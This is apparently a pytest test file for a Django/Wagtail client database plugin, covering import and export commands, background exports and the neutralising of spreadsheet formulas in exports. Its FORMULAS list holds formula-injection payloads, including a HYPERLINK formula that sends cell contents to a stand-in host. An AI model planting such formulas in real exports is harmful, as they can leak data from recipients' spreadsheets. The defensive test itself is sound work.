"""Import and export from the shell, large exports in the background, and export safety."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.utils import translation

from tests.conftest import customer_url, make_customer, speak
from tests.import_files import csv_bytes, xlsx_bytes, xlsx_sheets_bytes
from wagtail_clientdb import overrides
from wagtail_clientdb.models import Customer, ExportJob


@pytest.fixture
def superuser(django_user_model):
    return django_user_model.objects.create_superuser("root", "root@example.com", "pw")


def write(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


def test_import_command_dry_run_then_import(superuser, tmp_path, branch_a, capsys):
    path = write(tmp_path, "k.xlsx", xlsx_bytes([["Name", "Email", "Kundenfarbe"], ["Anna Schmidt", "anna@example.com", "blau"]]))
    call_command("clientdb_import", path, "--dry-run")
    out = capsys.readouterr()
    assert "Dry run, nothing written: 1 new, 0 updated, 0 unchanged, 0 refused." in out.out
    assert "'Kundenfarbe' is ignored" in out.err
    assert not Customer.objects.exists()
    call_command("clientdb_import", path, "--share-with", "alpha", "--map", "Kundenfarbe=notes")
    anna = Customer.objects.get()
    assert (anna.notes, list(anna.branches.all()), anna.is_global) == ("blau", [branch_a], True)


def test_import_command_names_the_sheet_it_reads_when_the_workbook_has_others(superuser, tmp_path, capsys):
    rows = [["Name", "Email"], ["Anna Schmidt", "anna@example.com"]]
    sheets = [("Geheim", [["x"]], "hidden"), ("Kunden", rows, "visible"), ("Notizen", [["y"]], "visible")]
    call_command("clientdb_import", write(tmp_path, "k.xlsx", xlsx_sheets_bytes(sheets)), "--dry-run")
    err = capsys.readouterr().err
    assert "Reading the sheet 'Kunden'; the workbook's other sheets ('Notizen') are not read." in err
    assert "Geheim" not in err
    call_command("clientdb_import", write(tmp_path, "one.xlsx", xlsx_bytes(rows)), "--dry-run")
    assert "sheet" not in capsys.readouterr().err


def test_import_command_as_a_branch_and_all_or_nothing(superuser, tmp_path, branch_a, capsys):
    path = write(tmp_path, "k.csv", csv_bytes([["Name", "Email"], ["Anna", "anna@example.com"], ["Bad", "nope"]]))
    with pytest.raises(CommandError, match="Nothing was imported"):
        call_command("clientdb_import", path, "--branch", "alpha")
    assert "line 3, Email" in capsys.readouterr().out
    assert not Customer.objects.exists()
    call_command("clientdb_import", path, "--branch", "alpha", "--valid-rows-only")
    assert Customer.objects.get().home_branch == branch_a


def test_import_command_refuses_bad_files_and_wrong_formats(superuser, tmp_path):
    with pytest.raises(CommandError, match="PNG"):
        call_command("clientdb_import", write(tmp_path, "x.xlsx", b"\x89PNG\r\n\x1a\n" + b"0" * 50), "--all-branches")
    with pytest.raises(CommandError, match="not XLSX"):
        call_command("clientdb_import", write(tmp_path, "x.xlsx", csv_bytes([["Name"], ["Anna"]])), "--format", "xlsx", "--all-branches")


def test_the_head_offices_import_command_chooses_the_sharing_of_new_customers(superuser, tmp_path, branch_a):
    path = write(tmp_path, "k.csv", csv_bytes([["Name", "Email"], ["Anna", "anna@example.com"]]))
    with pytest.raises(CommandError, match="Choose the branches that should see the new customers"):
        call_command("clientdb_import", path)
    with pytest.raises(CommandError, match="No branch with the slug nowhere"):
        call_command("clientdb_import", path, "--share-with", "alpha", "nowhere")
    assert not Customer.objects.exists()
    call_command("clientdb_import", path, "--all-branches")
    assert Customer.objects.get().shared_with_all_branches


def test_export_command(superuser, branch_a, branch_b, tmp_path, capsys):
    shared = make_customer(first_name="Anna", last_name="Shared", email="anna@example.com", shared_with_all_branches=True, marketing_consent=True)
    make_customer(first_name="Bert", last_name="LocalB", email="bert@example.com", home_branch=branch_b)
    overrides.save_local_values(shared, branch_a, {"notes": "Alpha's note"})
    call_command("clientdb_export")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    assert [row[1] for row in rows[1:]] == ["LocalB", "Shared"]
    call_command("clientdb_export", "--branch", "alpha")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    assert [(row[1], row[4]) for row in rows[1:]] == [("Shared", "Alpha's note")]
    call_command("clientdb_export", "--consent", "no")
    assert "Shared" not in capsys.readouterr().out
    path = tmp_path / "all.xlsx"
    call_command("clientdb_export", "--format", "xlsx", "--output", str(path), "--search", "anna")
    sheet = openpyxl.load_workbook(path).active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Shared"]


def test_large_exports_run_in_the_background(login, manager, settings, branch_a):
    settings.WAGTAIL_CLIENTDB = {**settings.WAGTAIL_CLIENTDB, "EXPORT_BACKGROUND_ROWS": 2}
    for i in range(3):
        make_customer(first_name=f"P{i}", last_name="Person", email=f"p{i}@example.com", branches=[branch_a])
    make_customer(first_name="Other", email="other@example.com")
    client = login(manager)
    response = client.get(customer_url("list"), {"export": "csv", "branch": branch_a.pk})
    job = ExportJob.objects.get()
    assert response.url == customer_url("export_job", job.pk)
    assert job.status == "exported"  # the immediate backend ran it
    page = client.get(response.url).content.decode()
    assert "data-clientdb-export-download" in page
    body = b"".join(client.get(customer_url("export_download", job.pk)).streaming_content).decode("utf-8-sig")
    assert body.count("@example.com") == 3 and "other@" not in body


def test_other_users_cannot_fetch_an_export(login, manager, staff_a, settings):
    settings.WAGTAIL_CLIENTDB = {**settings.WAGTAIL_CLIENTDB, "EXPORT_BACKGROUND_ROWS": 0}
    make_customer(first_name="Anna", shared_with_all_branches=True)
    login(manager).get(customer_url("list"), {"export": "xlsx"})
    job = ExportJob.objects.get()
    assert login(staff_a).get(customer_url("export_download", job.pk)).status_code == 404


FORMULAS = ['=HYPERLINK("http://x/?"&A2,"y")', "==1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"]


def test_exports_neutralise_formulas_and_keep_values(login, manager):
    for index, text in enumerate(FORMULAS):
        make_customer(first_name=f"F{index:02d}", last_name=text, email=f"f{index}@example.com", shared_with_all_branches=True)
    make_customer(first_name="Ctrl", last_name="a\x0bb\x1fc", email="ctrl@example.com", phone_raw="+49 170 1234567", shared_with_all_branches=True)
    client = login(manager)
    body = b"".join(client.get(customer_url("list"), {"export": "csv"}).streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the umlauts right
    rows = {row[0]: row for row in csv.reader(io.StringIO(body.decode("utf-8-sig")))}
    for index, text in enumerate(FORMULAS):
        assert rows[f"F{index:02d}"][1] == "'" + text
    assert rows["Ctrl"][3] == "+49 170 1234567"  # a phone number is not a formula: no apostrophe

    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(client.get(customer_url("list"), {"export": "xlsx"}).streaming_content)))
    cells = {row[0].value: row for row in workbook.active.iter_rows(min_row=2)}
    for index, text in enumerate(FORMULAS):
        cell = cells[f"F{index:02d}"][1]
        # Typed as text, never a formula, and the value itself is left as stored
        # (XML reads a carriage return back as a line feed).
        assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
    assert cells["Ctrl"][1].value == "abc"
    assert (cells["Ctrl"][3].value, cells["Ctrl"][3].data_type) == ("+49 170 1234567", "s")
    assert cells["Ctrl"][11].value == 0 and cells["Ctrl"][11].data_type == "n"  # numbers (bookings) stay numbers


def test_exports_write_dates_in_local_time_to_the_second(login, manager):
    anna = make_customer(first_name="Anna", email="anna@example.com", birthday=datetime.date(1990, 2, 28), shared_with_all_branches=True)
    # 23:30:15.7 UTC on New Year's Eve is 00:30:15 on New Year's Day in Berlin (the site's time zone).
    Customer.objects.filter(pk=anna.pk).update(created_at=datetime.datetime(2025, 12, 31, 23, 30, 15, 700000, tzinfo=datetime.UTC))
    client = login(manager)
    body = b"".join(client.get(customer_url("list"), {"export": "csv"}).streaming_content)
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = dict(zip(header, row))
    assert (cells["Birthday"], cells["Created"]) == ("1990-02-28", "2026-01-01 00:30:15")

    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(client.get(customer_url("list"), {"export": "xlsx"}).streaming_content)))
    header, row = workbook.active.iter_rows(values_only=True)
    cells = dict(zip(header, row))
    assert cells["Birthday"] == datetime.datetime(1990, 2, 28)  # Excel has no date-only type
    assert cells["Created"] == datetime.datetime(2026, 1, 1, 0, 30, 15)


def csv_export(client, **params):
    return b"".join(client.get(customer_url("list"), {"export": "csv", **params}).streaming_content).decode("utf-8-sig")


@pytest.mark.parametrize("language, separator, other", [("en", ",", ";"), ("de", ";", ","), ("fr", ";", ",")])
def test_csv_exports_use_the_separator_excel_expects_in_the_users_language(login, manager, language, separator, other):
    make_customer(first_name="Anna", last_name="Apfel", email="anna@example.com", shared_with_all_branches=True)
    speak(manager, language)
    client = login(manager)
    header = csv_export(client).splitlines()[0]
    assert header.count(separator) > 5 and other not in header
    assert csv_export(client, delimiter="comma").splitlines()[0].count(",") > 5
    assert csv_export(client, delimiter="semicolon").splitlines()[0].count(";") > 5
    # Both are offered, the language's own first.
    view = client.get(customer_url("list")).context["view"]
    with translation.override(language):
        buttons = [b for b in view.export_buttons() if "CSV" in str(b.label)]
    assert [b.url.rsplit("delimiter=", 1)[1] for b in sorted(buttons, key=lambda b: b.priority)] == (
        ["comma", "semicolon"] if separator == "," else ["semicolon", "comma"]
    )


def test_the_refused_rows_go_back_separated_as_the_upload_was(login, manager):
    client = login(manager)
    for delimiter in (";", "\t", ","):
        rows = [["Name", "Email"], ["Anna", "anna@example.com"], ["Bea", "not-an-email"]]
        response = client.post(customer_url("import"), {"file": _upload("list.csv", csv_bytes(rows, delimiter=delimiter))})
        job = _job(response)
        report = b"".join(client.get(customer_url("import_report", job.pk)).streaming_content).decode("utf-8-sig")
        assert report.splitlines()[1].startswith(f"3{delimiter}Bea{delimiter}")
    speak(manager, "de")
    response = login(manager).post(customer_url("import"), {"file": _upload("list.xlsx", xlsx_bytes([["Name", "Email"], ["Bea", "nope"]]))})
    report = b"".join(login(manager).get(customer_url("import_report", _job(response).pk)).streaming_content).decode("utf-8-sig")
    assert report.splitlines()[1].startswith("2;Bea;")


def _upload(name, data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data)


def _job(response):
    from wagtail_clientdb.models import ImportJob

    return ImportJob.objects.get(pk=response.url.rstrip("/").split("/")[-1])


def test_the_export_command_writes_semicolons_when_asked(superuser, capsys):
    make_customer(first_name="Anna", last_name="Apfel", email="anna@example.com", shared_with_all_branches=True)
    call_command("clientdb_export", "--delimiter", "semicolon")
    header = capsys.readouterr().out.lstrip("\ufeff").splitlines()[0]
    assert header.count(";") > 5 and "," not in header


def test_background_exports_keep_the_separator_asked_for(login, manager, settings):
    settings.WAGTAIL_CLIENTDB = {**settings.WAGTAIL_CLIENTDB, "EXPORT_BACKGROUND_ROWS": 0}
    make_customer(first_name="Anna", last_name="Apfel", email="anna@example.com", shared_with_all_branches=True)
    client = login(manager)
    client.get(customer_url("list"), {"export": "csv", "delimiter": "semicolon"})
    job = ExportJob.objects.get()
    body = b"".join(client.get(customer_url("export_download", job.pk)).streaming_content).decode("utf-8-sig")
    assert body.splitlines()[0].count(";") > 5 and "," not in body.splitlines()[0]


def test_the_roles_command_makes_the_two_groups_a_project_needs(login, make_user, branch_a, scope_customers):
    """A project that is not the example site gets the roles' groups with one command, run again
    without harm; the staff group works the admin as branch staff do."""
    from django.contrib.auth.models import Group, Permission

    Group.objects.create(name="Branch staff").permissions.add(Permission.objects.get(codename="view_image"))
    out = io.StringIO()
    call_command("clientdb_setup_roles", stdout=out)
    staff_group, managers = Group.objects.get(name="Branch staff"), Group.objects.get(name="Branch managers")
    assert staff_group.permissions.filter(codename="view_image").exists()  # what it had stays
    assert managers.permissions.filter(codename="manage_global_customers").exists()
    assert not staff_group.permissions.filter(codename="manage_global_customers").exists()
    again = io.StringIO()
    call_command("clientdb_setup_roles", stdout=again)
    assert "(0 added)" in again.getvalue() and again.getvalue().count("(0 added)") == 2
    client = login(make_user("neu", groups=[staff_group], branches=[branch_a]))
    listed = client.get(customer_url("list")).context["object_list"]
    assert {row.pk for row in listed} == {scope_customers[name].pk for name in ("global_all", "global_a", "local_a")}
    # API tokens are the head office's to make (Wagtail's site history names every token to
    # whoever may manage tokens); a branch's token is made for it, e.g. with api_tokens create.
    assert client.get("/admin/api-tokens/new/").status_code == 302
    assert login(make_user("chefin", groups=[managers])).get("/admin/api-tokens/new/").status_code == 200
